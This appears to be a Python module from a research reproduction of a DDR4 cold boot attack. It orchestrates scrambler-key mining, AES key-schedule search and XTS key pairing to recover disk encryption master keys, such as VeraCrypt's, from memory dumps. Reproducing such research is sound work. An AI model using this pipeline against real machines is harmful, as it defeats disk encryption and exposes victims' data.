"""The end-to-end DDR4 cold boot attack (§III-C, steps 1–4, plus the XTS pair).

Given nothing but a scrambled memory dump, the pipeline:

1. mines candidate scrambler keys from zero-filled blocks using the
   scrambler-key litmus test (:mod:`repro.attack.keymine`);
2. descrambles individual 64-byte blocks with every candidate key,
   looking for blocks that pass the per-block AES key litmus test
   (:mod:`repro.attack.aes_search`);
3. extends each sighting across its neighbouring windows (every window
   of a schedule yields an independent reconstruction — the
   majority-vote generalisation of the paper's neighbour walk);
4. recovers the secret AES master key from the head of each voted
   schedule;
5. gives an XTS schedule whose sibling did not surface a second chance
   at the sibling's known base, one schedule length away
   (:meth:`~repro.attack.aes_search.AesKeySearch.complete_pairs`).

The attack model matches the paper's: no knowledge of which blocks
share a key, no knowledge of plaintext contents, dump possibly taken
through a second live scrambler, modest bit decay tolerated throughout.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from repro.attack.aes_search import AesKeySearch, RecoveredAesKey, ScheduleHit
from repro.attack.keymine import CandidateKey, keys_matrix
from repro.crypto.aes import schedule_bytes
from repro.dram.image import MemoryImage


@dataclass(frozen=True)
class AttackConfig:
    """Tunables for the §III-C attack pipeline."""

    key_bits: int = 256
    #: Only the first this-many bytes are mined for keys (≤16 MB per
    #: §III-B); None mines the whole dump.
    key_scan_limit_bytes: int | None = 16 * 1024 * 1024
    #: Run the decay-adaptive engine instead of the fixed budgets: the
    #: dump's decay rate is estimated, damaged regions are quarantined,
    #: and the Hamming budgets escalate stage by stage until schedules
    #: surface (see :mod:`repro.attack.adaptive`).
    adaptive: bool = False
    #: Highest rung the adaptive ladder may climb (``"strict"``,
    #: ``"calibrated"`` or ``"decoded"``); None climbs the whole ladder.
    adaptive_max_stage: str | None = None
    #: Cap on belief-propagation sweeps per decoded table (at least 1).
    #: Each decode is one batched :func:`~repro.attack.decode.decode_schedule`
    #: call, which runs its sweeps on a thread pool of its own sized to
    #: the usable CPUs.
    decode_iters: int = 72
    #: Path for the decode-state sidecar
    #: (:class:`~repro.resilience.checkpoint.DecodeStateStore`): a
    #: deadline that expires mid-decode checkpoints the partial
    #: posteriors here, and a re-run with the same path warm-starts
    #: them and finishes byte-identically.
    decode_checkpoint: str | None = None
    #: Wall-clock budget for a whole run in seconds (None = unbounded).
    #: Charge decay makes the attack window physical: when the budget
    #: expires, a fixed-budget run stops resumable (completed shards
    #: journalled, the rest reported unscanned, no XTS sibling rescue),
    #: whatever its worker count, and the adaptive ladder stops
    #: escalating.
    deadline_s: float | None = None
    #: Heartbeat stall timeout for sharded runs in seconds (None
    #: disables the watchdog).  A worker that publishes no progress
    #: beat for this long is killed and its shard resubmitted; setting
    #: it runs the shards on a process pool, whose workers can be
    #: killed.
    stall_timeout_s: float | None = None


@dataclass
class AttackReport:
    """Everything the attack learned, plus bookkeeping for the write-up."""

    candidate_keys: list[CandidateKey] = field(default_factory=list)
    recovered_keys: list[RecoveredAesKey] = field(default_factory=list)
    hits: list[ScheduleHit] = field(default_factory=list)
    dump_bytes: int = 0
    mine_seconds: float = 0.0
    search_seconds: float = 0.0
    #: Shard bookkeeping: a fixed-budget run scans at least one shard
    #: (zero / empty for adaptive runs and for dumps that mine no key).
    n_shards: int = 0
    quarantined_shards: list[int] = field(default_factory=list)
    resumed_shards: int = 0
    degraded_to_serial: bool = False
    #: Deadline/watchdog bookkeeping.
    deadline_s: float | None = None
    deadline_expired: bool = False
    interrupted: bool = False
    #: Why the run ended early — "deadline" or a signal name (None when
    #: it ran to completion).
    expiry_cause: str | None = None
    #: Shard offsets left unscanned by an expiry/interrupt (resumable).
    unscanned_shards: list[int] = field(default_factory=list)
    #: Workers killed by the heartbeat watchdog for stalled beats.
    stall_kills: int = 0
    #: Journal bookkeeping: where the journal ended up, and whether
    #: journaling died.
    checkpoint_path: str | None = None
    checkpoint_error: str | None = None
    #: How shard jobs ran ("serial", "thread", or "process"; "" for
    #: adaptive runs).
    executor: str = ""
    #: Adaptive-run bookkeeping (``None`` for fixed-budget runs): the
    #: :meth:`repro.attack.adaptive.AdaptiveRecovery.summary` digest —
    #: estimated decay rate and source, stages run, confidence floor,
    #: quarantined regions, diagnostics.
    adaptive: dict | None = None
    #: Regions the adaptive triage excluded from the scan, as
    #: structured dicts (offset, length, reason, detail).
    quarantined_regions: list[dict] = field(default_factory=list)

    @property
    def complete_scan(self) -> bool:
        """False when quarantine, a deadline expiry, or an interrupt
        left part of the dump unsearched."""
        return (
            not self.quarantined_shards
            and not self.quarantined_regions
            and not self.unscanned_shards
        )

    @property
    def resumable(self) -> bool:
        """True when the run stopped early but left a usable trail: a
        deadline/interrupt cut with shards still unscanned."""
        return bool(self.unscanned_shards) and (
            self.deadline_expired or self.interrupted
        )

    @property
    def min_confidence(self) -> float:
        """The weakest recovered key's posterior confidence (0 if none)."""
        return min((r.confidence for r in self.recovered_keys), default=0.0)

    @property
    def master_keys(self) -> list[bytes]:
        """Recovered AES master keys, in table-base order."""
        return [r.master_key for r in self.recovered_keys]

    @property
    def scan_rate_mb_per_hour(self) -> float:
        """Search throughput in MB/hour — the paper's §III-C metric."""
        total = self.mine_seconds + self.search_seconds
        if total <= 0:
            return float("inf")
        return (self.dump_bytes / (1024 * 1024)) / (total / 3600.0)

    def summary(self) -> str:
        """One-paragraph human-readable result."""
        text = (
            f"dump={self.dump_bytes / 1048576:.1f}MiB "
            f"candidates={len(self.candidate_keys)} hits={len(self.hits)} "
            f"recovered={len(self.recovered_keys)} "
            f"(mine {self.mine_seconds:.2f}s + search {self.search_seconds:.2f}s, "
            f"{self.scan_rate_mb_per_hour:.0f} MB/h)"
        )
        if self.n_shards:
            text += f" shards={self.n_shards}"
            if self.resumed_shards:
                text += f" resumed={self.resumed_shards}"
            if self.quarantined_shards:
                text += f" QUARANTINED={len(self.quarantined_shards)}"
            if self.unscanned_shards:
                text += (
                    f" UNSCANNED={len(self.unscanned_shards)}"
                    f" ({self.expiry_cause or 'stopped'}, resumable)"
                )
            if self.stall_kills:
                text += f" stall_kills={self.stall_kills}"
        if self.adaptive is not None:
            text += (
                f" adaptive[rate={self.adaptive['estimated_decay_rate']:.4f} "
                f"({self.adaptive['decay_source']}) "
                f"stages={'+'.join(self.adaptive['stages_run']) or 'none'} "
                f"confidence≥{self.min_confidence:.2f}]"
            )
            if self.quarantined_regions:
                text += f" QUARANTINED_REGIONS={len(self.quarantined_regions)}"
        return text


class Ddr4ColdBootAttack:
    """Orchestrates mining and searching over one scrambled dump."""

    def __init__(self, config: AttackConfig | None = None) -> None:
        self.config = config or AttackConfig()

    def run(self, dump: MemoryImage, reference: MemoryImage | None = None) -> AttackReport:
        """Execute steps 1–5 on a scrambled memory image.

        The fixed-budget attack is :meth:`run_sharded` on one shard, run
        in-process on one worker, so it returns the keys a sharded run
        returns and honours ``config.deadline_s`` the same way.
        ``reference`` (a pre-decay image, when the experiment has one)
        is only consulted by the adaptive engine, where it upgrades the
        decay estimate to a direct measurement.
        """
        if self.config.adaptive:
            return self._run_adaptive(dump, reference)
        return self.run_sharded(dump)

    def _run_adaptive(self, dump: MemoryImage, reference: MemoryImage | None) -> AttackReport:
        """The decay-adaptive path of :meth:`run`."""
        from repro.attack.adaptive import AdaptiveRecoveryEngine

        config = self.config
        store = None
        if config.decode_checkpoint is not None:
            from repro.resilience.checkpoint import DecodeStateStore

            store = DecodeStateStore(config.decode_checkpoint)
        engine = AdaptiveRecoveryEngine(
            key_bits=config.key_bits,
            scan_limit_bytes=config.key_scan_limit_bytes,
            max_stage=config.adaptive_max_stage,
            decode_iters=config.decode_iters,
            decode_state_store=store,
        )
        start = time.perf_counter()
        result = engine.recover(dump, reference=reference, deadline=config.deadline_s)
        elapsed = time.perf_counter() - start
        report = AttackReport(dump_bytes=len(dump), deadline_s=config.deadline_s)
        report.candidate_keys = result.candidates
        report.recovered_keys = result.recovered
        report.hits = [hit for rec in result.recovered for hit in rec.hits]
        # The engine interleaves mining and searching per stage; the
        # split timing is not meaningful, so everything lands in search.
        report.search_seconds = elapsed
        report.adaptive = result.summary()
        report.quarantined_regions = [error.to_dict() for error in result.quarantined]
        if result.decode is not None and result.decode.get("interrupted"):
            # A deadline cut the decode mid-sweep; the partial
            # posteriors (if a checkpoint store is wired) make the run
            # resumable, so surface it the same way a sharded expiry is.
            report.deadline_expired = True
            report.interrupted = True
            report.expiry_cause = "deadline"
            report.checkpoint_path = config.decode_checkpoint
        return report

    def run_sharded(
        self,
        dump: MemoryImage,
        workers: int = 1,
        n_shards: int | None = None,
        retry_policy=None,
        checkpoint=None,
        resume: bool = True,
        fault_plan=None,
        on_event=None,
        deadline=None,
        stop=None,
        checkpoint_fallback_dir=None,
    ) -> AttackReport:
        """Execute the fixed-budget attack as a fault-tolerant sharded scan.

        Keys are mined from the first ``config.key_scan_limit_bytes`` of
        the dump, and the search is split into overlapping shards driven
        by :func:`repro.attack.parallel.resilient_recover_keys`, so
        worker crashes and hangs are retried, exhausted shards are
        quarantined (listed in ``report.quarantined_shards``), and —
        when ``checkpoint`` names a journal file — an interrupted scan
        resumes without re-searching completed shards.  After the merge,
        :meth:`~repro.attack.aes_search.AesKeySearch.complete_pairs`
        gives unpaired XTS schedules' siblings a pinned second chance
        over the mined pool, as the adaptive engine does, unless a
        deadline or signal stopped the scan: the resumed run rescues.

        ``deadline`` (seconds or a
        :class:`~repro.resilience.deadline.Deadline`; defaults to
        ``config.deadline_s``) bounds the run resumably, ``stop`` wires
        in graceful-shutdown signals, and ``config.stall_timeout_s``
        arms the heartbeat watchdog (on a process pool).
        """
        from repro.attack.parallel import resilient_recover_keys
        from repro.resilience.deadline import Deadline
        from repro.resilience.watchdog import WatchdogConfig

        config = self.config
        if deadline is None:
            deadline = config.deadline_s
        deadline = Deadline.coerce(deadline)
        watchdog = None
        if config.stall_timeout_s is not None:
            watchdog = WatchdogConfig(stall_timeout_s=config.stall_timeout_s)
        scan = resilient_recover_keys(
            dump,
            key_bits=config.key_bits,
            workers=workers,
            n_shards=n_shards,
            retry_policy=retry_policy,
            checkpoint=checkpoint,
            resume=resume,
            fault_plan=fault_plan,
            on_event=on_event,
            deadline=deadline,
            stop=stop,
            watchdog=watchdog,
            checkpoint_fallback_dir=checkpoint_fallback_dir,
            scan_limit_bytes=config.key_scan_limit_bytes,
        )
        report = AttackReport(dump_bytes=len(dump))
        report.candidate_keys = scan.candidates
        report.recovered_keys = scan.recovered
        report.search_seconds = scan.search_seconds
        if scan.recovered and not (scan.deadline_expired or scan.interrupted):
            start = time.perf_counter()
            search = AesKeySearch(keys_matrix(scan.candidates), key_bits=config.key_bits)
            report.recovered_keys = search.complete_pairs(dump, scan.recovered)
            report.search_seconds += time.perf_counter() - start
        report.hits = [hit for rec in report.recovered_keys for hit in rec.hits]
        report.mine_seconds = scan.mine_seconds
        report.n_shards = scan.n_shards
        report.quarantined_shards = scan.quarantined_offsets
        report.resumed_shards = scan.resumed_shards
        report.degraded_to_serial = scan.ledger.degraded_to_serial
        report.deadline_s = scan.deadline_seconds
        report.deadline_expired = scan.deadline_expired
        report.interrupted = scan.interrupted
        report.expiry_cause = scan.expiry_cause
        report.unscanned_shards = scan.unscanned_offsets
        report.stall_kills = scan.ledger.stall_kills
        report.checkpoint_path = scan.checkpoint_path
        report.checkpoint_error = scan.checkpoint_error
        report.executor = scan.executor
        return report

    def recover_xts_master_key(
        self, dump: MemoryImage, report: AttackReport | None = None
    ) -> bytes | None:
        """Recover a VeraCrypt-style 64-byte XTS master key, if present.

        A mounted XTS volume keeps two adjacent AES-256 schedules in RAM
        — the primary schedule immediately followed (240 bytes later) by
        the tweak schedule.  Every attack path recovers both, rescuing a
        decayed sibling at its pinned base, and :func:`pair_xts_keys`
        joins them.  ``report`` is a :meth:`run` or :meth:`run_sharded`
        report of ``dump`` when the caller already has one; without it
        the attack runs here.
        """
        if report is None:
            report = self.run(dump)
        return pair_xts_keys(report.recovered_keys, self.config.key_bits)


def pair_xts_keys(recovered: list[RecoveredAesKey], key_bits: int) -> bytes | None:
    """The 64-byte XTS key ``primary || tweak`` among recovered schedules.

    Pairs the lowest-based recovered schedule whose successor, one
    schedule length on, was recovered too; None when no pair exists.
    """
    by_base = {r.hits[0].table_base: r for r in recovered if r.hits}
    stride = schedule_bytes(key_bits)
    for base in sorted(by_base):
        partner = by_base.get(base + stride)
        if partner is not None:
            return by_base[base].master_key + partner.master_key
    return None
